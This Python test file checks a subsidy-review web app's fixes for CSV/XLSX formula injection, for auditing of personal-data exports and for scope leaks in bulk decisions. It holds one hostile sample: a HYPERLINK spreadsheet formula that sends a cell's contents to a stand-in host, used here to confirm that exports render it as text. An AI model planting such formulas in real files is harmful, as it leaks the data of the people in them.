"""Holes a security probe found in the review road: formulas smuggled into exported files, downloads of
personal data that left no trace, and bulk decisions that told a stranger about others' applications.

(Kept with the workflow tests for their fixtures: fresh claimants and a clock that moves by days.)"""

from __future__ import annotations

import csv
import io
import json

from openpyxl import load_workbook
from sqlalchemy import select

from yikatong.core.db import new_session, transaction
from yikatong.security.models import AuditEvent, User
from yikatong.workflow import publicity, service
from yikatong.workflow.models import Action, Application, PublicityEntry

from . import test_views
from .test_views import FARMLAND, FOREST, SPECIAL, accepted, at_township, other_township_reviewer

auth = test_views.auth  # the review-road tests' bearer logins (the client, `web`, is the workflow conftest's)

PAYLOAD = '=HYPERLINK("http://x/?"&A2,"详情")'


def published(users, person, clock) -> tuple[int, int, int]:
    """An application of the clerk's village on a published list: (application id, list id, position)."""
    app_id = accepted(users, person, clock, item=FARMLAND, period="2026", quantity="2")
    with transaction() as s:
        clerk = s.get(User, users["village_clerk"].id)
        app = s.get(Application, app_id)
        service.decide(s, app, clerk, Action.APPROVE, "评议通过", clock.now())
        publicity.publish(s, clerk, clock.now(), village=app.region_code)
        entry = s.scalar(select(PublicityEntry).where(PublicityEntry.application_id == app_id))
        return app_id, entry.publicity_id, entry.position


def audit_since(before: int, action: str) -> list[AuditEvent]:
    with new_session() as s:
        return s.scalars(select(AuditEvent).where(AuditEvent.id > before, AuditEvent.action == action)
                         .order_by(AuditEvent.id)).all()


def last_audit_id() -> int:
    with new_session() as s:
        return s.scalar(select(AuditEvent.id).order_by(AuditEvent.id.desc())) or 0


def test_a_formula_in_an_anonymous_objection_is_exported_as_text(web, auth, users, claimant, clock):
    app_id, pub_id, position = published(users, claimant(FARMLAND), clock)
    r = web.post(f"/public/publicity/{pub_id}/objections", data={"entry": str(position), "reason": PAYLOAD},
                 follow_redirects=False)  # anonymous: no name, no phone, no login
    assert r.status_code == 303, r.text
    clerk = auth("village_clerk")

    r = web.get(f"/applications/{app_id}/trail.xlsx", headers=clerk)
    sheet = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    [opinion] = [c for c in cells if c.value == PAYLOAD]  # the reader sees exactly what was written
    assert opinion.data_type == "s" and opinion.quotePrefix  # text, never a formula
    assert not any(c.data_type == "f" for c in cells)
    assert [c.data_type for c in sheet["B"][1:]] == ["n"] * (sheet.max_row - 1)  # 序号 stay numbers

    r = web.get(f"/applications/{app_id}/trail.csv", headers=clerk)
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    [objection] = [row for row in rows if PAYLOAD in row[9]]
    assert objection[9] == "'" + PAYLOAD  # the apostrophe spreadsheets read as "this is text"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_every_download_of_personal_data_is_audited(web, auth, users, claimant, clock):
    app_id = at_township(users, claimant(FOREST), clock, item=FOREST, period="2026", quantity="2")
    before = last_audit_id()
    reviewer, supervisor = auth("township_reviewer"), auth("supervisor")

    assert web.get("/applications/export.xlsx?overdue=false&item=" + FOREST, headers=reviewer).status_code == 200
    assert web.get(f"/applications/{app_id}/trail.csv", headers=reviewer).status_code == 200
    assert web.get("/overdue/export.xlsx", headers=supervisor).status_code == 200
    assert web.get("/interception/stats.xlsx?date_from=2026-01-01", headers=supervisor).status_code == 200

    [inbox] = audit_since(before, "export.inbox")
    detail = json.loads(inbox.detail)
    assert inbox.username == "township_reviewer" and inbox.ip
    assert detail["format"] == "xlsx" and detail["filter"] == {"item": FOREST} and detail["rows"] >= 1
    [trail] = audit_since(before, "export.trail")
    with new_session() as s:
        records = service.trail(s, s.get(User, users["township_reviewer"].id), app_id)[1]
        assert trail.object_id == str(app_id) and json.loads(trail.detail)["rows"] == len(records)
    [overdue] = audit_since(before, "export.overdue")
    assert overdue.username == "supervisor" and "rows" in json.loads(overdue.detail)
    [stats] = audit_since(before, "export.flag_stats")
    assert json.loads(stats.detail)["filter"] == {"date_from": "2026-01-01"}


def test_bulk_decision_outside_scope_reveals_nothing(web, auth, users, claimant, clock):
    app_id = at_township(users, claimant(SPECIAL), clock)
    with new_session() as s:
        number = s.get(Application, app_id).number
    missing = app_id + 10_000_000
    stranger = auth(other_township_reviewer(users, clock))
    r = web.post("/api/v1/applications/bulk-decision", headers=stranger,
                 json={"ids": [app_id, missing], "decision": "approve", "opinion": "同意"})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["done"] == []
    assert body["skipped"] == [{"number": f"#{app_id}", "reason": "不存在或无权处理"},
                               {"number": f"#{missing}", "reason": "不存在或无权处理"}]  # same words for both
    assert number not in r.text and "镇审" not in r.text
    with new_session() as s:
        assert s.get(Application, app_id).stage == "镇审"  # untouched
